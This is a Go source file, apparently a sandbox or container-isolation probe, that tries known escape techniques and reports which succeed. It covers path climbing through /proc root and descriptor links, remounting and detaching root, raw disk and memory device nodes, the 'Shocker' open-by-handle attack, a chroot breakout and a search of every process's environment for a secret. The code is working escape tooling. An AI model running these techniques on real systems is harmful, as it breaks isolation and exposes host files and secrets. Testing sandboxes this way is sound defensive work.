//go:build linux

package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// escape looks for a file of the machine in all ways to it; its path outside is the argument.
func escape(args []string) (found []string) {
	outside := args[0]
	look := func(way, path string) {
		if b, err := os.ReadFile(path); err == nil {
			found = append(found, fmt.Sprintf("%s: %s has %q", way, path, b))
		}
	}
	look("the path itself", outside)
	look("climbing", strings.Repeat("../", 40)+outside)
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range append(pids, "/proc/self", "/proc/thread-self") {
		look("the root of a process", p+"/root"+outside)
		look("climbing from the directory of a process", p+"/cwd/"+strings.Repeat("../", 40)+outside)
		fds, _ := filepath.Glob(p + "/fd/*")
		for _, fd := range fds {
			look("a descriptor", fd+outside)
		}
	}
	look("the old root of pivot_root", "/.pivot_root"+outside)
	found = append(found, mountAway()...)
	found = append(found, rawDevice()...)
	found = append(found, byHandle()...)
	if err := climbOut(); err == nil {
		look("climbing out of a chroot", outside)
	}
	return found
}

func mountAway() (found []string) {
	if err := os.MkdirAll("/mnt", 0o755); err != nil {
		return nil
	}
	for _, fs := range []string{"tmpfs", "proc", "sysfs", "overlay", "devtmpfs"} {
		if err := unix.Mount(fs, "/mnt", fs, 0, ""); err == nil {
			found = append(found, "mounting "+fs)
		}
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_SHARED, ""); err == nil {
		found = append(found, "changing the propagation of mounts")
	}
	if err := unix.Unmount("/proc", unix.MNT_DETACH); err == nil {
		found = append(found, "unmounting /proc")
	}
	if err := unix.Unmount("/", unix.MNT_DETACH); err == nil {
		found = append(found, "unmounting the root")
	}
	return found
}

// rawDevice makes nodes for disks and memory and opens them.
func rawDevice() (found []string) {
	for _, d := range []struct {
		kind         uint32
		major, minor uint32
	}{{unix.S_IFBLK, 254, 0}, {unix.S_IFBLK, 8, 0}, {unix.S_IFBLK, 7, 0}, {unix.S_IFBLK, 259, 0}, {unix.S_IFCHR, 1, 1}, {unix.S_IFCHR, 10, 237}} {
		const node = "/node"
		_ = os.Remove(node)
		if err := unix.Mknod(node, d.kind|0o600, int(unix.Mkdev(d.major, d.minor))); err != nil {
			continue
		}
		if f, err := os.Open(node); err == nil {
			found = append(found, fmt.Sprintf("opening device %d:%d", d.major, d.minor))
			f.Close()
		}
		_ = os.Remove(node)
	}
	return found
}

// byHandle opens a file by its handle, which ignores the root directory (the attack called Shocker).
func byHandle() []string {
	handle, id, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	if err != nil {
		return nil
	}
	_ = id
	root, err := os.Open("/")
	if err != nil {
		return nil
	}
	defer root.Close()
	if fd, err := unix.OpenByHandleAt(int(root.Fd()), handle, unix.O_RDONLY); err == nil {
		_ = unix.Close(fd)
		return []string{"opening a file by its handle"}
	}
	return nil
}

// climbOut leaves a directory that was made the root with the working directory outside of it.
func climbOut() error {
	if err := os.MkdirAll("/cage", 0o755); err != nil {
		return err
	}
	above, err := os.Open("/")
	if err != nil {
		return err
	}
	defer above.Close()
	if err := unix.Chroot("/cage"); err != nil {
		return err
	}
	if err := above.Chdir(); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	return unix.Chroot(".")
}

// reach connects to what listens on the machine: addresses are NETWORK=ADDRESS.
func reach(args []string) (found []string) {
	for _, a := range args {
		network, address, _ := strings.Cut(a, "=")
		c, err := net.DialTimeout(network, address, 2*time.Second)
		if err == nil {
			_ = c.Close()
			found = append(found, "connecting to "+a)
		}
	}
	return found
}

// environment looks for a text in the environments of all processes.
func environment(args []string) (found []string) {
	for _, e := range os.Environ() {
		if strings.Contains(e, args[0]) {
			found = append(found, "it is in the environment")
		}
	}
	files, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, f := range slices.Concat(files, []string{"/proc/self/environ"}) {
		if b, err := os.ReadFile(f); err == nil && strings.Contains(string(b), args[0]) {
			found = append(found, "it is in "+f)
		}
	}
	return found
}
